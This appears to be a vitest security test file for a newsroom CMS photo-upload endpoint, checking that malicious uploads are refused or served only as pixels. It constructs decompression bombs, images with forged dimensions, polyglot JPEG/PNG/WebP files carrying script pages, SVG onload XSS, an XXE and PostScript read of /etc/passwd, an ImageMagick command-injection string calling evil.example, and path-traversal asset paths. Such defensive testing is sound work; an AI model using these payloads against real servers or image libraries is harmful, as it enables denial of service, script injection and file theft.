// Files that are uploaded as photos to attack the desk, its editors or readers.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect } from 'vitest';
import { z } from 'zod';
import { remarked, tinyPhotos } from '../../fixtures/content.ts';
import { writtenStory } from '../../fixtures/desk/desk-client.ts';
import { expectRefused, FIRST, type DeskSite } from '../../fixtures/desk/desk-site.ts';
import { test } from '../../fixtures/desk/desk-test.ts';
import { bitmap, grain, picture, pngChunk } from '../../fixtures/photos/samples.ts';

const PAGE = '<!doctype html><script>alert(document.domain)</script>';

let site: DeskSite;

test.beforeAll(async ({ site: opened }) => {
  site = opened;
});

const objects = (): string => site.git('count-objects', '-v');

/** Resolves to a JPEG whose frame header declares another size (ITU-T T.81, B.2.2). Width and height are in pixels. */
async function claiming(width: number, height: number): Promise<Buffer> {
  const jpeg = await picture(64, 48).jpeg().toBuffer();
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, frame + 5);
  jpeg.writeUInt16BE(width, frame + 7);
  return jpeg;
}

/**
 * Resolves to a progressive JPEG whose last scan is there `scans` times. A decoder visits every pixel for each scan.
 */
async function ofManyScans(width: number, height: number, scans: number): Promise<Buffer> {
  const jpeg = await picture(width, height).jpeg({ progressive: true }).toBuffer();
  const last = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]));
  const scan = jpeg.subarray(last, -2);
  return Buffer.concat([
    jpeg.subarray(0, last),
    ...Array.from({ length: scans }, () => scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** Resolves to a WebP that declares a canvas of the maximum size (RFC 9649, 2.7) but contains a small picture. */
async function vastWebp(): Promise<Buffer> {
  const image = (await picture(64, 48).webp().toBuffer()).subarray(12);
  const canvas = Buffer.from('VP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff', 'latin1');
  const head = Buffer.from('RIFF\0\0\0\0WEBP', 'latin1');
  head.writeUInt32LE(4 + canvas.length + image.length, 4);
  return Buffer.concat([head, canvas, image]);
}

/** Resolves to an AVIF whose item declares 2,147,483,647 pixels a side (ISO/IEC 23008-12, 6.5.3). */
async function vastAvif(): Promise<Buffer> {
  const avif = await picture(64, 48).avif({ effort: 0 }).toBuffer();
  const size = avif.indexOf('ispe') + 8;
  avif.writeUInt32BE(0x7fffffff, size);
  avif.writeUInt32BE(0x7fffffff, size + 4);
  return avif;
}

/** Returns 100,000,000 zero bytes, compressed (zlib). */
const packed = (): Buffer => deflateSync(Buffer.alloc(100_000_000), { level: 9 });

describe('A file that would take more memory or time than a photo is refused and not stored', () => {
  test.each<[string, () => Promise<Uint8Array> | Uint8Array, RegExp]>([
    ['a PNG of 900 million pixels in a hundred kilobytes', () => bitmap(30_000, 30_000), /30000×30000/u],
    ['a JPEG that claims four billion pixels', () => claiming(65_535, 65_500), /65535×65500|不完整或已损坏/u],
    ['a JPEG that claims fifty million pixels and has three thousand', () => claiming(8_000, 6_250), /不完整或已损坏/u],
    ['a JPEG of no height', () => claiming(64, 0), /不完整或已损坏/u],
    ['a JPEG of four thousand scans', () => ofManyScans(4_000, 3_000, 4_000), /不完整或已损坏/u],
    ['a WebP that claims a canvas of 16777216 a side', vastWebp, /不完整或已损坏|16777216/u],
    ['an AVIF that claims two billion a side', vastAvif, /不完整或已损坏|2147483647/u],
    [
      'a PNG whose chunk claims two gigabytes',
      () => Buffer.concat([bitmap(64, 64).subarray(0, 33), Buffer.from('\x7f\xff\xff\xffIDAT', 'latin1')]),
      /不完整或已损坏/u,
    ],
  ])('%s', async (_case, make, words) => {
    const bytes = await make();
    expect(bytes.length).toBeLessThan(2_000_000);
    const before = objects();
    expectRefused(await site.desk.upload(bytes), 422, words);
    expectRefused(await site.desk.upload(bytes, true), 422, words);
    expect(objects()).toBe(before);
    expect(readdirSync(join(site.data, 'uploads'))).toEqual([]);
    expect((await site.desk.upload(tinyPhotos.a)).status).toBe(200);
  });

  test.each<[string, () => Buffer]>([
    ['a comment', () => pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), packed()]))],
    ['a colour profile', () => pngChunk('iCCP', Buffer.concat([Buffer.from('bomb\0\0', 'latin1'), packed()]))],
    [
      'an XMP packet',
      () => pngChunk('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\x01\0\0\0', 'latin1'), packed()])),
    ],
  ])('A PNG with a hundred megabytes compressed in %s is accepted as a photo without it', async (_case, chunk) => {
    const answer = await site.desk.upload(bitmap(64, 64, [chunk()]));
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    const { src } = z.object({ src: z.string() }).parse(answer.body);
    const light = await site.desk.request(`/api/photos/${src}?as=light`);
    expect(light.status).toBe(200);
    expect((await light.arrayBuffer()).byteLength).toBeLessThan(10_000);
  });
});

describe('A file that is a photo and something else', () => {
  const MARK = 'mark-of-the-other-file';
  const polyglots: [string, () => Promise<Uint8Array>][] = [
    ['a JPEG with a page in its comment', async () => remarked(await grain(64, 48).jpeg().toBuffer(), PAGE + MARK)],
    [
      'a JPEG with a page after its end',
      async () => Buffer.concat([await grain(64, 48).jpeg().toBuffer(), Buffer.from(PAGE + MARK)]),
    ],
    [
      'a JPEG with an archive after its end',
      async () => Buffer.concat([await grain(64, 48).jpeg().toBuffer(), Buffer.from(`PK\x03\x04${MARK}`, 'latin1')]),
    ],
    [
      'a PNG with a page in a text chunk',
      async () => bitmap(64, 48, [pngChunk('tEXt', Buffer.from(`Comment\0${PAGE}${MARK}`))]),
    ],
    [
      'a WebP with a page after its end',
      async () => Buffer.concat([await grain(64, 48).webp().toBuffer(), Buffer.from(PAGE + MARK)]),
    ],
    [
      'a JPEG with a page in its EXIF',
      async () =>
        grain(64, 48)
          .withExif({ IFD0: { Copyright: PAGE + MARK, ImageDescription: PAGE } })
          .jpeg()
          .toBuffer(),
    ],
  ];

  test.each(polyglots)('is served only as a photo: %s', async (_case, make) => {
    const bytes = await make();
    expect(Buffer.from(bytes).includes(MARK)).toBe(true);
    const answer = await site.desk.upload(bytes);
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    const { src } = z.object({ src: z.string() }).parse(answer.body);
    for (const accept of ['image/*', 'text/html']) {
      const shown = await site.desk.request(`/api/photos/${src}`, { headers: { accept } });
      expect(shown.headers.get('content-type')).toMatch(/^image\/(?:jpeg|png|webp)$/u);
      expect(shown.headers.get('x-content-type-options')).toBe('nosniff');
      expect(shown.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    }
    const light = Buffer.from(await (await site.desk.request(`/api/photos/${src}?as=light`)).arrayBuffer());
    expect((await sharp(light).metadata()).format).toBe('jpeg');
    expect(light.includes(MARK)).toBe(false);
  });

  test('reaches readers only as pixels', async () => {
    const files = await Promise.all(polyglots.slice(0, 2).map(async ([, make]) => make()));
    const names = await site.desk.photos(...files);
    const story = writtenStory('jiefang', '20210405-080000aa', names);
    const answer = await site.desk.saveAndPublish(story);
    expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    const published = readdirSync(site.output, { recursive: true, encoding: 'utf8' }).filter((path) =>
      statSync(join(site.output, path)).isFile(),
    );
    const photos = published.filter((path) => path.startsWith('photos/'));
    expect(photos.length).toBeGreaterThanOrEqual(4);
    expect(published.filter((path) => readFileSync(join(site.output, path)).includes(MARK))).toEqual([]);
    for (const src of names) expect(published.filter((path) => path.includes(src))).toEqual([]);
  });
});

describe('A file that only looks like a photo', () => {
  test.each([
    ['a page that begins like a JPEG', Buffer.from(`\xff\xd8\xff\xe0${PAGE}`, 'latin1')],
    ['a page that begins like a PNG', Buffer.from(`\x89PNG\r\n\x1a\n${PAGE}`, 'latin1')],
    ['a page that begins like a WebP', Buffer.from(`RIFF\0\0\0\0WEBP${PAGE}`, 'latin1')],
    ['a page that begins like an AVIF', Buffer.from(`\0\0\0\x1cftypavif\0\0\0\0avifmif1${PAGE}`, 'latin1')],
    [
      'SVG after a declaration',
      Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ],
    ['SVG in UTF-16', Buffer.from('\ufeff<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'utf16le')],
    ['SVG after blanks', Buffer.from(`${' '.repeat(9000)}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)],
    [
      'SVG that reads a file',
      Buffer.from(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
    ],
    ['PostScript', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file')],
    [
      'instructions of ImageMagick',
      Buffer.from('push graphic-context\nviewbox 0 0 640 480\nfill "url(https://evil.example/|id)"'),
    ],
  ])('is refused under any media type: %s', async (_case, bytes) => {
    const before = objects();
    for (const type of ['application/octet-stream', 'image/jpeg', 'image/svg+xml', 'image/png']) {
      const response = await site.desk.request('/api/photos?entry=', {
        method: 'PUT',
        headers: { 'content-type': type },
        body: bytes,
      });
      const body: unknown = await response.json();
      expectRefused({ status: response.status, body }, 422);
      expect(JSON.stringify(body)).not.toMatch(/root:|vips|libheif/iu);
    }
    expect(objects()).toBe(before);
  });

  test.each([
    ['page.jpg', PAGE],
    ['drawing.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['script.webp', 'alert(1)'],
    ['empty.avif', ''],
  ])('is served as a download if it is already in the repository: %s', async (name, text) => {
    site.commitToMain(`stories/jiefang/${FIRST}/${name}`, text);
    for (const query of ['', '?as=light']) {
      const answer = await site.desk.request(`/api/photos/stories/jiefang/${FIRST}/${name}${query}`);
      const type = answer.headers.get('content-type') ?? '';
      if (answer.status === 200) expect(type).toBe('application/octet-stream');
      else expectRefused({ status: answer.status, body: await answer.json() }, answer.status);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(type).not.toMatch(/html|svg|script/u);
    }
  });

  test('cannot be stored through the assets of a save', async () => {
    const [src = ''] = await site.desk.photos(tinyPhotos.a);
    const { raw } = writtenStory('jiefang', '20210406-080000aa', [src]);
    const folder = 'stories/jiefang/20210406-080000aa';
    const asset = { content: Buffer.from(PAGE).toString('base64'), encoding: 'base64' };
    const { status } = await site.desk.call('persistEntry', {
      dataFiles: [{ path: `${folder}/index.md`, slug: 'jiefang/20210406-080000aa', raw, baseId: null }],
      assets: [
        { ...asset, path: `${folder}/evil.html` },
        { ...asset, path: `${folder}/evil.jpg` },
        { ...asset, path: '../../admin/admin.html' },
      ],
      options: { collectionName: 'stories' },
    });
    expect(status).toBe(200);
    expect(site.files('refs/heads/cms/stories/jiefang/20210406-080000aa', folder)).toEqual([src, 'index.md'].sort());
  });
});
